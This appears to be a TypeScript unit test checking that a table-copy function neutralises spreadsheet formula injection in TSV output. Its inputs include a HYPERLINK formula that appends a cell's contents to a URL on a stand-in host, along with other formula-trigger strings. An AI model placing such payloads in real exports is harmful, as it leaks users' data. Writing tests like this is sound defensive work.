import assert from 'node:assert/strict';
import { copyRows } from '../../../../../src/core/data/tables/copyRows';
import type { DataValue } from '../../../../../src/core/data/tables/dataValue';

const LIMITS = { rows: 100, characters: 100_000 };

function copied(name: string, value: DataValue): readonly string[] {
  const column = { name, valueIn: (one: DataValue) => one };
  return copyRows([value], [column], 'tsv', LIMITS).text.split('\n');
}

describe('copyRows as cells', () => {
  it('neutralizes formulas like the CSV export, in values and names', () => {
    const formula = '=HYPERLINK("https://acme.test/?"&A1, "Open")';
    assert.deepEqual(copied(formula, formula), [`'${formula}`, `'${formula}`]);
    for (const text of ['@SUM(A1)', '+1+1', '-1-1', '＝1', '\t=1+1', '"=1+1"', '""=1+1"']) {
      const [, cell] = copied('v', text);
      assert.equal(cell, `'${text.replace('\t', ' ')}`);
    }
  });

  it('preserves other texts, numbers, and JSON', () => {
    for (const text of ['a=b', '"quoted"', '-5', '+1.5e-3', '', "'"]) {
      assert.deepEqual(copied('v', text), ['v', text]);
    }
    assert.deepEqual(copied('v', -5), ['v', '-5']);
    assert.deepEqual(copied('v', { formula: '=1' }), ['v', '{"formula":"=1"}']);
  });
});
